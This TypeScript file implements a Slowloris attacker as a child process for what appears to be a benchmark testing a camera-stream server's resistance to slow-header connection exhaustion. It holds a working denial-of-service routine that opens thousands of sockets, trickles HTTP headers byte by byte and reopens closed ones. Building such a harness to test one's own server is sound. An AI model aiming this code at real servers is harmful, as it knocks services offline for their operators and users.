/**
 * Slowloris attacker for the `slowloris` bench, run as its own child process (so its socket churn
 * does not delay the cameras' pacing loop and ACK time stamps). Keeps `sockets` connections
 * attempted from `addresses` loopback source addresses (127.0.0.2…), half of them trickling a
 * request head one byte every `trickleMs`, half connected and silent. A socket the server closes
 * or refuses is reopened after `reopenMs` (jittered ±50 %), until `stop`. Parent ↔ child over IPC:
 * parent sends {cmd:'start', …} then {cmd:'stop'}; the child sends {type:'stats', …} every second
 * and a final one on stop, then exits.
 */
import net from 'node:net';

export interface AttackPlan {
  cmd: 'start';
  host: string;
  port: number;
  sockets: number;
  addresses: number;
  trickleMs: number;
  reopenMs: number;
}

export interface AttackStats {
  type: 'stats';
  final: boolean;
  /** connect() calls made. */
  opened: number;
  connected: number;
  /** Failed before connecting (ECONNREFUSED, timeout, no local port…). */
  failedToConnect: number;
  /** Closed by the server less than 1 s after connecting: refused by a connection cap. */
  closedAtOnce: number;
  /** Closed by the server later: header timeout / idle close. */
  closedLater: number;
  /** Connected now, from the attacker's side (the server may already have let go of some). */
  connectedNow: number;
  connectingNow: number;
  peakConnected: number;
  errorCodes: Record<string, number>;
}

/** A server closing a socket within this of the connect is refusing it, not timing it out. */
const AT_ONCE_MS = 1000;
const RAMP_BATCH = 500;
const RAMP_EVERY_MS = 100;
const TRICKLE_SLICES = 12;

const stats: AttackStats = {
  type: 'stats',
  final: false,
  opened: 0,
  connected: 0,
  failedToConnect: 0,
  closedAtOnce: 0,
  closedLater: 0,
  connectedNow: 0,
  connectingNow: 0,
  peakConnected: 0,
  errorCodes: {},
};
const live = new Set<net.Socket>();
const slowHeads: net.Socket[][] = Array.from({ length: TRICKLE_SLICES }, () => []);
let running = false;
const timers: NodeJS.Timeout[] = [];

function openSlot(plan: AttackPlan, slot: number): void {
  if (!running) return;
  const localAddress = `127.0.0.${2 + (slot % plan.addresses)}`;
  const slow = slot % 2 === 0;
  const socket = net.connect({ host: plan.host, port: plan.port, localAddress });
  stats.opened++;
  stats.connectingNow++;
  live.add(socket);
  let connectedAt = 0;
  socket.on('error', (e: NodeJS.ErrnoException) => {
    const code = e.code ?? 'unknown';
    stats.errorCodes[code] = (stats.errorCodes[code] ?? 0) + 1;
  });
  socket.once('connect', () => {
    connectedAt = performance.now();
    stats.connectingNow--;
    stats.connected++;
    stats.connectedNow++;
    stats.peakConnected = Math.max(stats.peakConnected, stats.connectedNow);
    if (slow) {
      socket.write(`GET /listStreams HTTP/1.1\r\nHost: ${plan.host}:${plan.port}\r\nX-Slow: `);
      slowHeads[slot % TRICKLE_SLICES]!.push(socket);
    }
  });
  socket.once('close', () => {
    live.delete(socket);
    if (!running) return;
    if (connectedAt === 0) {
      stats.connectingNow--;
      stats.failedToConnect++;
    } else {
      stats.connectedNow--;
      if (performance.now() - connectedAt < AT_ONCE_MS) stats.closedAtOnce++;
      else stats.closedLater++;
    }
    if (slow) {
      const list = slowHeads[slot % TRICKLE_SLICES]!;
      const i = list.indexOf(socket);
      if (i >= 0) list.splice(i, 1);
    }
    const t = setTimeout(() => openSlot(plan, slot), plan.reopenMs * (0.5 + Math.random()));
    t.unref();
  });
}

function start(plan: AttackPlan): void {
  running = true;
  // Ramp in batches so the first wave is not all one burst of SYNs.
  let next = 0;
  const ramp = setInterval(() => {
    const end = Math.min(plan.sockets, next + RAMP_BATCH);
    for (; next < end; next++) openSlot(plan, next);
    if (next >= plan.sockets) clearInterval(ramp);
  }, RAMP_EVERY_MS);
  timers.push(ramp);
  // One byte of header per slow socket every trickleMs, spread over the interval in slices.
  let tick = 0;
  timers.push(
    setInterval(() => {
      for (const s of slowHeads[tick++ % TRICKLE_SLICES]!) if (s.writable) s.write('a');
    }, plan.trickleMs / TRICKLE_SLICES),
  );
  timers.push(setInterval(() => process.send?.(stats), 1000));
}

function stop(): void {
  running = false;
  for (const t of timers) clearInterval(t);
  for (const s of live) s.destroy();
  process.send?.({ ...stats, final: true }, () => process.exit(0));
}

process.on('message', (m: AttackPlan | { cmd: 'stop' }) => {
  if (m.cmd === 'start') start(m);
  else stop();
});
// The parent went away: do not keep 10,000 sockets open.
process.on('disconnect', () => {
  running = false;
  process.exit(0);
});
